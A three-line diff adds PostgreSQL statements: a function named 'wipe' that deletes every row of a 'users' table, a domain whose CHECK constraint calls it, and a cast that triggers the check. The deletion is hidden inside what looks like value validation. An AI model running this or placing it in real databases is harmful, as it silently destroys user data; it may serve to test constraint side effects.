@@ -1,0 +1,3 @@
+CREATE FUNCTION wipe(int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN true; END $$;
+CREATE DOMAIN d AS int CHECK (wipe(VALUE));
+SELECT 1::d;
